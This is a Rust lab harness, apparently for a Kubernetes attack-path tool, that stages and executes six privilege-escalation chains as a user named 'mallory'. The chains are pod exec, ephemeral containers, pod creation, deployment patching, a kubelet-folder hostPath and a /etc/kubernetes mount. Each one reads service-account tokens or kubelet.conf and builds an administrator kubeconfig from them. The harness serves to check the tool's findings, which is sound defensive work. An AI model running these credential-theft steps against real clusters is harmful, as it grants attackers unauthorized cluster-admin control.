//! Chains through running pods: what the cluster holds, and the steps as an attacker takes them.

use super::Lab;
use anyhow::{Context, Result, ensure};
use serde_json::{Value, json};
use std::process::Output;
use std::time::{SystemTime, UNIX_EPOCH};

/// A chain. Everything is in a namespace `chain-NAME`, where the service account `boss` is cluster administrator, and
/// the user `mallory-NAME` holds a role with `rules`.
pub(super) struct Chain {
    pub(super) name: &'static str,
    /// Where the attacker starts, as `seawall paths` takes it.
    pub(super) from: &'static str,
    /// Where the chain ends.
    pub(super) to: &'static str,
    /// The steps that seawall tells.
    pub(super) edges: &'static [&'static str],
    /// The rules of the attacker's role; none for an attacker in a pod.
    pub(super) rules: &'static str,
    /// What runs, with `NS` for the namespace.
    pub(super) objects: &'static str,
    /// Takes the steps: the kubeconfig that the attacker then holds, or `None` where a step was refused.
    pub(super) attack: fn(&Lab<'_>, &Chain) -> Result<Option<Value>>,
    /// Who that is.
    pub(super) becomes: &'static str,
}

impl Chain {
    pub(super) fn namespace(&self) -> String {
        format!("chain-{}", self.name)
    }

    pub(super) fn user(&self) -> String {
        format!("mallory-{}", self.name)
    }
}

const IMAGE: &str = "localhost/lab/busybox:1";
const TOKEN: &str = "/var/run/secrets/kubernetes.io/serviceaccount/token";

/// All of them.
pub(super) const ALL: &[Chain] = &[
    Chain {
        name: "exec",
        from: "user:mallory-exec",
        to: "cluster-admin",
        edges: &["EXEC", "POD_SA", "WILDCARD"],
        rules: r#"[{apiGroups: [""], resources: [pods/exec], verbs: [get, create]}, {apiGroups: [""], resources: [pods], verbs: [get]}]"#,
        objects: APP,
        attack: exec,
        becomes: "system:serviceaccount:chain-exec:boss",
    },
    Chain {
        name: "ephemeral",
        from: "user:mallory-ephemeral",
        to: "cluster-admin",
        edges: &["EPHEMERAL", "POD_SA", "WILDCARD"],
        rules: r#"[{apiGroups: [""], resources: [pods/ephemeralcontainers], verbs: [get, patch]}, {apiGroups: [""], resources: [pods, pods/log], verbs: [get]}]"#,
        objects: APP,
        attack: ephemeral,
        becomes: "system:serviceaccount:chain-ephemeral:boss",
    },
    Chain {
        name: "create",
        from: "user:mallory-create",
        to: "cluster-admin",
        edges: &["POD_CREATE_SA", "WILDCARD"],
        rules: r#"[{apiGroups: [""], resources: [pods], verbs: [create, get]}, {apiGroups: [""], resources: [pods/log], verbs: [get]}]"#,
        objects: "",
        attack: create,
        becomes: "system:serviceaccount:chain-create:boss",
    },
    Chain {
        name: "update",
        from: "user:mallory-update",
        to: "cluster-admin",
        edges: &["WORKLOAD_UPDATE", "WILDCARD"],
        rules: r#"[{apiGroups: [apps], resources: [deployments], verbs: [get, patch]}, {apiGroups: [""], resources: [pods, pods/log], verbs: [get, list]}]"#,
        objects: "
apiVersion: apps/v1
kind: Deployment
metadata: {name: web, namespace: NS}
spec:
  selector: {matchLabels: {app: web}}
  template:
    metadata: {labels: {app: web}}
    spec: {terminationGracePeriodSeconds: 0, containers: [{name: app, image: \"localhost/lab/busybox:1\", command: [sleep, \"600\"]}]}
",
        attack: update,
        becomes: "system:serviceaccount:chain-update:boss",
    },
    Chain {
        name: "folder",
        from: "pod:chain-folder/open",
        to: "cluster-admin",
        edges: &["KUBELET_DIR", "WILDCARD"],
        rules: "",
        objects: "
apiVersion: v1
kind: Pod
metadata: {name: open, namespace: NS}
spec:
  nodeName: node1
  automountServiceAccountToken: false
  containers:
  - {name: app, image: \"localhost/lab/busybox:1\", command: [sleep, \"600\"], volumeMounts: [{name: pods, mountPath: /host, readOnly: true}]}
  volumes: [{name: pods, hostPath: {path: /var/lib/kubelet/pods}}]
---
apiVersion: v1
kind: Pod
metadata: {name: app, namespace: NS}
spec:
  nodeName: node1
  serviceAccountName: boss
  containers: [{name: app, image: \"localhost/lab/busybox:1\", command: [sleep, \"600\"]}]
",
        attack: folder,
        becomes: "system:serviceaccount:chain-folder:boss",
    },
    Chain {
        name: "node",
        from: "user:mallory-node",
        to: "node:node1",
        edges: &["POD_CREATE_HOST"],
        rules: r#"[{apiGroups: [""], resources: [pods], verbs: [create, get]}, {apiGroups: [""], resources: [pods/log], verbs: [get]}]"#,
        objects: "",
        attack: node,
        becomes: "system:node:node1",
    },
];

/// A pod that holds the administrator's token.
const APP: &str = "
apiVersion: v1
kind: Pod
metadata: {name: app, namespace: NS}
spec:
  serviceAccountName: boss
  containers: [{name: app, image: \"localhost/lab/busybox:1\", command: [sleep, \"600\"]}]
";

/// Runs kubectl as the attacker; `None` where the API server refused.
fn act(lab: &Lab<'_>, chain: &Chain, words: &[&str], input: &str) -> Result<Option<Output>> {
    let (namespace, user) = (chain.namespace(), chain.user());
    let mut all = vec!["--as", &user, "--as-group", "system:authenticated", "--namespace", &namespace];
    all.extend(words);
    let output = lab.kubectl(&all, input)?;
    let told = String::from_utf8_lossy(&output.stderr);
    if !output.status.success() && (told.contains("forbidden") || told.contains("Forbidden")) {
        return Ok(None);
    }
    ensure!(output.status.success(), "{words:?}: {told}");
    Ok(Some(output))
}

/// The administrator's kubeconfig with a token instead of its certificate.
fn with_token(lab: &Lab<'_>, token: &str) -> Result<Value> {
    let mut config: Value =
        serde_json::from_str(&lab.admin(&["config", "view", "--raw", "-o", "json"], "")?)?;
    config["users"][0]["user"] = json!({"token": token.trim()});
    Ok(config)
}

/// Prints a file, or something that is no token where it is not there: with a cut made, pods may have none.
fn print(file: &str) -> String {
    // A runtime logs whole lines, and tokens end without one.
    format!("cat {file} 2>&1 || echo none; echo")
}

fn stolen(lab: &Lab<'_>, output: Option<Output>) -> Result<Option<Value>> {
    let text = output.map(|output| String::from_utf8_lossy(&output.stdout).into_owned());
    text.filter(|text| text.starts_with("ey")).map(|token| with_token(lab, &token)).transpose()
}

fn exec(lab: &Lab<'_>, chain: &Chain) -> Result<Option<Value>> {
    stolen(lab, act(lab, chain, &["exec", "app", "--", "sh", "-c", &print(TOKEN)], "")?)
}

/// A name that was not there before: containers that were added cannot be taken away.
fn fresh(start: &str) -> Result<String> {
    Ok(format!("{start}-{:x}", SystemTime::now().duration_since(UNIX_EPOCH)?.as_millis()))
}

/// What a container has printed, once it has ended; read as the attacker.
fn printed(lab: &Lab<'_>, chain: &Chain, pod: &str, container: &str) -> Result<Option<Output>> {
    for _ in 0..100 {
        let namespace = chain.namespace();
        let output = lab.kubectl(&["--namespace", &namespace, "logs", pod, "--container", container], "")?;
        if output.status.success() && !output.stdout.is_empty() {
            return act(lab, chain, &["logs", pod, "--container", container], "");
        }
        std::thread::sleep(std::time::Duration::from_millis(200));
    }
    anyhow::bail!("{pod} has printed nothing")
}

fn ephemeral(lab: &Lab<'_>, chain: &Chain) -> Result<Option<Value>> {
    let name = fresh("look")?;
    let patch = json!({"spec": {"ephemeralContainers": [{"name": name, "image": IMAGE, "targetContainerName": "app",
        "command": ["sh", "-c", print(&format!("/proc/1/root{TOKEN}"))]}]}});
    let patch = patch.to_string();
    let words = ["patch", "pod", "app", "--subresource", "ephemeralcontainers", "--patch", &patch];
    if act(lab, chain, &words, "")?.is_none() {
        return Ok(None);
    }
    stolen(lab, printed(lab, chain, "app", &name)?)
}

/// Creates a pod that prints a file; what it printed.
fn pod(lab: &Lab<'_>, chain: &Chain, spec: Value, file: &str) -> Result<Option<Output>> {
    let name = fresh("evil")?;
    let mut pod = json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name}, "spec": spec});
    pod["spec"]["restartPolicy"] = "Never".into();
    pod["spec"]["containers"][0]["name"] = "app".into();
    pod["spec"]["containers"][0]["image"] = IMAGE.into();
    pod["spec"]["containers"][0]["command"] = json!(["sh", "-c", print(file)]);
    if act(lab, chain, &["create", "--validate=false", "--filename", "-"], &pod.to_string())?.is_none() {
        return Ok(None);
    }
    printed(lab, chain, &name, "app")
}

fn create(lab: &Lab<'_>, chain: &Chain) -> Result<Option<Value>> {
    stolen(lab, pod(lab, chain, json!({"serviceAccountName": "boss", "containers": [{}]}), TOKEN)?)
}

fn update(lab: &Lab<'_>, chain: &Chain) -> Result<Option<Value>> {
    let command = format!("{}; sleep 600", print(TOKEN));
    let patch = json!({"spec": {"template": {"spec": {"serviceAccountName": "boss",
        "containers": [{"name": "app", "command": ["sh", "-c", command]}]}}}});
    let patch = patch.to_string();
    if act(lab, chain, &["patch", "deployment", "web", "--patch", &patch], "")?.is_none() {
        return Ok(None);
    }
    let namespace = chain.namespace();
    lab.admin(&["--namespace", &namespace, "rollout", "status", "deployment/web", "--timeout", "60s"], "")?;
    stolen(lab, printed(lab, chain, "deployment/web", "app")?)
}

/// The process in the pod reads what the kubelet gave to another pod; that it can be told to is the start.
fn folder(lab: &Lab<'_>, chain: &Chain) -> Result<Option<Value>> {
    let namespace = chain.namespace();
    let all = "cat /host/*/volumes/kubernetes.io~projected/*/token";
    let words = ["--namespace", &namespace, "exec", "open", "--", "sh", "-c", all];
    let output = lab.kubectl(&words, "")?;
    // Each starts like this: the first part of a token is the same for one key.
    let text = String::from_utf8_lossy(&output.stdout).replace("eyJhbGci", "\neyJhbGci");
    for token in text.lines().filter(|line| !line.is_empty()) {
        let config = with_token(lab, token)?;
        if lab.identity(&config)?.as_deref() == Some(chain.becomes) {
            return Ok(Some(config));
        }
    }
    Ok(None)
}

fn node(lab: &Lab<'_>, chain: &Chain) -> Result<Option<Value>> {
    let spec = json!({"nodeName": "node1", "automountServiceAccountToken": false,
        "containers": [{"volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
        "volumes": [{"name": "host", "hostPath": {"path": "/etc/kubernetes"}}]});
    let Some(output) = pod(lab, chain, spec, "/host/kubelet.conf")? else { return Ok(None) };
    let file = lab.work.join("kubelet.conf");
    std::fs::write(&file, &output.stdout)?;
    let file = file.to_str().context("a path")?;
    let config = lab.admin(&["--kubeconfig", file, "config", "view", "--raw", "-o", "json"], "")?;
    Ok(Some(serde_json::from_str(&config)?))
}
